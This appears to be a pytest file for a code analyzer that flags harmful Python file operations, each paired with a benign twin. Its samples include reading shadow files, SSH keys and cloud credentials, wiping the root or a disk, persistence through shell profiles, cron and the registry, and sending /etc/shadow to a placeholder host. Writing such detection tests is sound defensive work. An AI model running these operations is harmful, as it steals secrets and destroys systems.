"""Python that touches files; each harm beside an honest twin."""

from __future__ import annotations

import pytest

from rune.code import analyze

from ..conftest import Effect, Rules


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        pytest.param("open('/etc/shadow').read()", "040", id="shadow"),
        pytest.param("from pathlib import Path\n(Path.home()/'.ssh'/'id_rsa').read_text()", "040", id="ssh key by pathlib"),
        pytest.param("import os\nopen(os.path.expanduser('~/.aws/credentials'))", "040", id="cloud credentials"),
        pytest.param("import os\nopen(os.path.join(os.environ['HOME'], '.netrc'))", "040", id="home from the environment"),
        pytest.param("import glob\nfor f in glob.glob('/home/*/.ssh/*'):\n    print(open(f).read())", "040", id="keys of everyone"),
        pytest.param("import sqlite3\nsqlite3.connect('/home/u/.config/google-chrome/Default/Login Data')", "040", id="browser store"),
        pytest.param("import shutil\nshutil.copy('/etc/shadow', 'x')", "040", id="copied"),
        pytest.param("open('/proc/self/environ').read()", "040", id="environment through proc"),
        pytest.param("import os\nos.open('/etc/shadow', os.O_RDONLY)", "040", id="descriptor"),
        pytest.param("import pandas as pd\npd.read_csv('/etc/passwd', sep=':')", "042", id="system file by pandas"),
        pytest.param("open('../../../../etc/passwd').read()", "042", id="traversal to a system file"),
        pytest.param("open('../../../x').read()", "051", id="traversal"),
        pytest.param("open('.env').read()", "041", id="settings beside the code"),
        pytest.param("open('/usr/lib/python3/site.py','w')", "043", id="system program"),
        pytest.param("from pathlib import Path\nPath('/etc/hosts').write_text('x')", "043", id="system settings"),
        pytest.param("import os\nopen(os.path.expanduser('~/.bashrc'),'a').write('x')", "044", id="shell profile"),
        pytest.param("import shutil\nshutil.copy('x.py', '/etc/cron.d/x')", "044", id="cron"),
        pytest.param("open('.git/hooks/pre-commit','w').write('x')", "044", id="git hook"),
        pytest.param(
            "import winreg\nwinreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')",
            "044",
            id="registry",
        ),
        pytest.param("open('/home/u/notes.txt','w')", "045", id="file of the user"),
        pytest.param("open('/srv/data/x','w')", "046", id="outside"),
        pytest.param("import shutil\nshutil.rmtree('/')", "047", id="everything"),
        pytest.param(
            "import os\nfor r, d, files in os.walk('/etc'):\n    for f in files:\n        os.remove(os.path.join(r, f))",
            "048",
            id="file by file",
        ),
        pytest.param("open('/dev/sda','wb').write(b'0')", "047", id="disk"),
        pytest.param("import os\nos.remove('/var/log/syslog')", "048", id="log"),
        pytest.param("import shutil\nshutil.rmtree('/srv/data')", "049", id="folder outside"),
        pytest.param("import os\nos.listdir('/etc')", "050", id="listing"),
        pytest.param("import os\nos.chmod('/etc/passwd', 0o666)", "052", id="mode"),
        pytest.param("import os\nos.chmod('x', 0o4755)", "026", id="set-user-id"),
        pytest.param("open('.ssh/authorized_keys','w')", "054", id="keys below the work directory"),
        pytest.param("# filename: ../../../root/.bashrc\nprint(1)", "044", id="file name comment"),
    ],
)
def test_each_operation_has_its_rule(source: str, rule: str, rules: Rules) -> None:
    assert rule in rules(source)


@pytest.mark.parametrize(
    "source",
    [
        pytest.param("open('data.csv').read()\nopen('out/result.json','w').write('x')", id="work directory"),
        pytest.param("for i in range(10):\n    open(f'out_{i}.txt','w').write(str(i))", id="numbered files"),
        pytest.param("import tempfile,shutil\nd=tempfile.mkdtemp()\nshutil.rmtree(d)", id="temporary folder"),
        pytest.param("import os\nif os.path.exists('out.txt'):\n    os.remove('out.txt')", id="its own file"),
        pytest.param("import matplotlib.pyplot as plt\nplt.savefig('chart.png')", id="a chart"),
        pytest.param("import pandas as pd\npd.read_csv('a.csv').to_csv('b.csv')", id="a table"),
        pytest.param("from pathlib import Path\nPath('a').mkdir(exist_ok=True)\n(Path('a')/'b.txt').write_text('x')", id="pathlib"),
        pytest.param("import os\nfor name in os.listdir('.'):\n    print(name)", id="listing the work directory"),
        pytest.param("open('../data/x.csv')", id="one folder up"),
        pytest.param("open('/etc/os-release').read()\nopen('/proc/cpuinfo').read()", id="public facts"),
        pytest.param("import zipfile\nzipfile.ZipFile('a.zip').extractall('a')", id="an archive"),
        pytest.param("def save(path, text):\n    open(path, 'w').write(text)", id="a path that is not known"),
        pytest.param("# filename: fetch.py\nprint(1)", id="file name comment"),
        pytest.param("import os\nos.chmod('run.sh', 0o755)", id="executable"),
        pytest.param("from dotenv import load_dotenv\nload_dotenv()", id="dotenv"),
    ],
)
def test_honest_twins_are_let_through(source: str, effect: Effect) -> None:
    assert effect(source) == "allow"


def test_paths_are_listed_by_operation() -> None:
    source = "import os\nopen('a')\nopen('b','w')\nos.remove('c')\nos.listdir('d')\nos.chmod('e', 0o600)"
    paths = analyze(source, "python").manifest.paths
    assert paths == {"read": ("a",), "write": ("b",), "delete": ("c",), "list": ("d",), "mode": ("e",)}


def test_content_is_followed_from_file_to_file() -> None:
    source = (
        "import shutil, requests\nshutil.copy('/etc/shadow', 'a.txt')\nopen('b.txt','w').write(open('a.txt').read())\n"
        "requests.post('https://x.io', data=open('b.txt'))"
    )
    assert "RUNE-CODE-060" in {finding.rule for finding in analyze(source, "python").findings}
